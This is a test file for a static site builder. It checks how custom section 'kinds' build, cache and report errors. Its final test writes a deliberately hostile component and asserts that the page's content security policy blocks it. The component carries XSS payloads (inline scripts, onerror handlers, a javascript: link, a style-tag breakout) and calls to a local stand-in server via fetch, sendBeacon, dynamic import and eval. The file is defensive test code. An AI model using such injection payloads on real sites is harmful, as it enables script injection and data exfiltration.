import { readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { slow } from '../depth'
import { smallSalon } from './smallSalon'
import { listen } from '../../src/node/serve/listen'
import { serveFolder } from '../../src/node/serve/serveFolder'
import { launchBrowser } from '../launchBrowser'
import { checkHere } from './checkHere'
import { runCommand as run } from './kindSite'
import { addToHome, beforeAfter, pair, writeKind } from './writeKind'
import { temporaryFolder } from '../temporaryFolder'

const work = temporaryFolder('kinds')

let count = 0
/** A new site with a kind of its own. */
function siteWith(
  files: Parameters<typeof writeKind>[2] = beforeAfter,
  section: object = pair(),
  name = 'before-after',
  place: Parameters<typeof addToHome>[2] = 'after',
) {
  const file = smallSalon(join(work, `site ${(count += 1)}`))
  const folder = join(file, '..')
  writeKind(folder, name, files)
  addToHome(file, section, place)
  return { file, folder, out: join(folder, 'out') }
}

test('a kind is checked and shown like ours, and its script is on the pages that have it', async () => {
  const { file, folder, out } = siteWith(beforeAfter, pair({ actions: [{ type: 'call', label: 'Call us' }] }))
  expect(await run('check', file)).toMatchObject({ code: 0, said: expect.stringContaining('in order') })
  expect((await run('build', '--site', file, '--out', out)).said).toContain('pages in')
  const page = (path: string) => readFileSync(join(out, path), 'utf8')
  expect(page('index.html')).toMatch(/<h2[^>]*>One afternoon with \+91[^<]*<\/h2>/)
  expect(page('index.html')).toContain('<figcaption>Before</figcaption>')
  expect(page('index.html')).toContain('Call us')
  const assets = readdirSync(join(out, 'assets'))
  const sheet = readFileSync(join(out, 'assets', assets.find((name) => name.endsWith('.css')) ?? ''), 'utf8')
  const [, name] = /class="(_\w+)"/.exec(page('index.html')) ?? []
  expect(sheet).toContain(`.${name}{display:grid;gap:.125rem}`)
  const script = assets.find((one) => one.startsWith('before-after.')) ?? 'none'
  expect(page('index.html')).toContain(`<script type="module" src="/assets/${script}"></script>`)
  expect(page('appointment/index.html')).not.toContain(script)
  // Nothing is built twice, and changed code is built anew.
  expect((await run('build', '--site', file, '--out', out)).said).toContain('0 written')
  writeKind(folder, 'before-after', {
    ...beforeAfter,
    'words.json': '{ "before": { "en": "Earlier" }, "after": { "en": "Later" } }',
  })
  await run('build', '--site', file, '--out', out)
  expect(page('index.html')).toContain('<figcaption>Earlier</figcaption>')
})

slow(test)('a kind that prints a running text as it is shows what placeholders bring as it is written', async () => {
  const files = {
    'schema.json': JSON.stringify({ 'x-api': 1, properties: { note: { $ref: 'running-text.schema.json' } } }),
    'View.tsx': `import { Paragraphs } from 'townsite/kit'
export default ({ note }) => <div><b>{note}</b><Paragraphs text={note} /></div>
`,
  }
  const { file, out } = siteWith(files, { type: 'note', id: 'note', note: '{fact.old} {fact.new} *now*' }, 'note')
  const site = JSON.parse(readFileSync(file, 'utf8')) as object
  writeFileSync(file, JSON.stringify({ ...site, facts: { old: '(0731) 42', new: 'All **new**' } }))
  expect((await run('build', '--site', file, '--out', out)).said).toContain('pages in')
  const html = readFileSync(join(out, 'index.html'), 'utf8')
  expect(html).not.toMatch(/\p{Co}/u)
  expect(html.replaceAll('\u2060', '')).toContain('<b>(0731) 42 All **new** *now*</b>')
  expect(html).toContain('<p>(0731) 42 All **new** <em>now</em></p>')
})

slow(test)('a package can bring a kind', async () => {
  const { file, folder, out } = siteWith()
  rmSync(join(folder, 'kinds'), { recursive: true })
  writeKind(folder, '../node_modules/townsite-kind-before-after')
  expect((await run('build', '--site', file, '--out', out)).said).toContain('pages in')
  expect(readFileSync(join(out, 'index.html'), 'utf8')).toContain('<figcaption>Before</figcaption>')
})

const faults: Record<
  string,
  { section?: object; files?: Parameters<typeof writeKind>[2]; name?: string; says: RegExp }
> = {
  'a missing value': { section: { ...pair(), after: undefined }, says: /sections › 1[^]*"after" is missing/ },
  'an unknown key': { section: pair({ befor: 1 }), says: /"befor"/ },
  'an unknown choice': { section: pair({ ground: 'tin' }), says: /"tint"/ },
  'an unknown button': { section: pair({ actions: [{ type: 'cal', label: 'Call' }] }), says: /Did you mean "call"\?/ },
  'too many buttons': {
    section: pair({ actions: [1, 2, 3].map((index) => ({ type: 'call', label: `Call ${index}` })) }),
    says: /At most 2/,
  },
  'an unknown placeholder': { section: pair({ title: 'Call {company.fone}' }), says: /\{company\.phone\}/ },
  'a picture that is not there': { section: pair({ before: { src: 'none.svg', alt: 'Hair' } }), says: /none\.svg/ },
  'a kind without a component': {
    files: { ...beforeAfter, 'View.tsx': undefined },
    says: /kinds\/before-after\/schema\.json[^]*The section "before-after" has no View\.tsx/,
  },
  'a kind for another version': {
    files: { ...beforeAfter, 'schema.json': beforeAfter['schema.json'].replace('"x-api": 1', '"x-api": 7') },
    says: /made for version 7 of kinds; this program has version 1/,
  },
  'a kind for no version': {
    files: { ...beforeAfter, 'schema.json': beforeAfter['schema.json'].replace('"x-api": 1,', '') },
    says: /Write "x-api": 1/,
  },
  'a reference to nothing': {
    files: {
      ...beforeAfter,
      'schema.json': beforeAfter['schema.json'].replace('"text.schema.json"', '"txet.schema.json"'),
    },
    says: /schema\.json:\d+:\d+[^]*This refers to "txet\.schema\.json", which does not exist/,
  },
  'a schema that is no JSON': {
    files: { ...beforeAfter, 'schema.json': '{ "x-api": 1, }}' },
    says: /kinds\/before-after\/schema\.json:1/,
  },
  'a name that is ours': { name: 'hero', says: /There is already a kind "hero"/ },
  'a name that is none': { name: 'Before After', says: /cannot be the name of a kind/ },
}

test.each(Object.entries(faults))('check says what is wrong: %s', async (_, { section, files, name, says }) => {
  const said = await checkHere(siteWith(files, section ?? pair(), name).file, ['error'])
  expect(said).toMatch(says)
  expect(said).not.toMatch(/\n\s+at /)
})

test('a site whose kind is wrong fails its check', async () => {
  const { file } = siteWith(undefined, pair({ befor: 1 }))
  expect(await run('check', file)).toMatchObject({ code: 1, said: expect.stringMatching(/"befor"/) })
})

slow(test).each<[code: string, view: string, says: (string | RegExp)[]]>([
  [
    'that cannot be compiled',
    'export default function View( { return <p> }',
    [
      /kinds\/before-after\/View\.tsx:1:40\n    The code cannot be compiled: Expected `:` but found `<`\n[^]*\(rule: own-kind\)/,
      'Nothing was built: the site has problems to mend. ',
    ],
  ],
  ...['./none', 'no-such-words'].map((module): [string, string, (string | RegExp)[]] => [
    `that imports ${module}, which is not there,`,
    `import none from '${module}'\nexport default () => <p>{none}</p>`,
    [/Nothing was built: the kinds of this site cannot be compiled:\n[^\n]*View\.tsx/, module],
  ]),
])('code %s is told with its file, and the last build stays', async (_, view, says) => {
  const { file, folder, out } = siteWith()
  await run('build', '--site', file, '--out', out)
  const before = readFileSync(join(out, 'index.html'), 'utf8')
  writeKind(folder, 'before-after', { 'View.tsx': view })
  const { code, said } = await run('build', '--site', file, '--out', out)
  expect(code).toBe(1)
  for (const one of says) expect(said).toMatch(one)
  expect(said).toContain('What was built before stays as it is.')
  expect(said).not.toMatch(/\n\s+at /)
  expect(readFileSync(join(out, 'index.html'), 'utf8')).toBe(before)
})

describe('a hostile kind', () => {
  slow(test)('gets nothing past the policy of its page', async () => {
    let asked = 0
    const foreign = createServer((_, response) => {
      asked += 1
      response.end()
    })
    const address = `http://127.0.0.1:${await listen(foreign, 0)}`
    const { file, out } = siteWith(
      {
        ...beforeAfter,
        'schema.json': beforeAfter['schema.json'].replace('"x-api": 1,', '"x-api": 1, "x-page-title": true,'),
        'View.tsx': `import styled from 'styled-components'
export default ({ title }) => (
  <Box>
    <h1>{title}</h1>
    <div dangerouslySetInnerHTML={{ __html: '<script>window.inline = 1</script><script src="${address}/a.js"></script><img src="${address}/b.png" onerror="window.handler = 1"><img src="/none.png" onerror="window.handler = 1"><iframe src="${address}/c"></iframe><form action="${address}/d"></form><a href="javascript:window.followed = 1" id="link">x</a><style>body { background: url(${address}/e.png) }</style>' }} />
  </Box>
)
const Box = styled.div\`
  color: red;
  &::before { content: '</style><img src="/none.png" onerror="window.style = 1">'; background: url(${address}/f.png); }
\`
`,
        'script.ts': `fetch('${address}/g').catch(() => {}); navigator.sendBeacon('${address}/h', 'x'); import('${address}/i.js').catch(() => {}); try { eval('window.evaluated = 1') } catch {}
document.body.dataset.ran = ''
`,
      },
      pair(),
      'before-after',
      'instead',
    )
    expect((await run('build', '--site', file, '--out', out)).said).toContain('pages in')
    const [host, browser] = await Promise.all([serveFolder(out, 0, '/'), launchBrowser()])
    try {
      const page = await browser.newPage()
      await page.goto(host.url, { waitUntil: 'networkidle' })
      await page.locator('body[data-ran]').waitFor()
      await page.locator('#link').click()
      const names = ['inline', 'handler', 'followed', 'style', 'evaluated']
      expect(await page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([])
      expect(asked).toBe(0)
      // The two of the component: none comes out of the styles.
      expect(await page.locator('img[onerror]').count()).toBe(2)
    } finally {
      await Promise.all([host.close(), browser.close()])
      foreign.close()
      foreign.closeAllConnections()
    }
  })
})
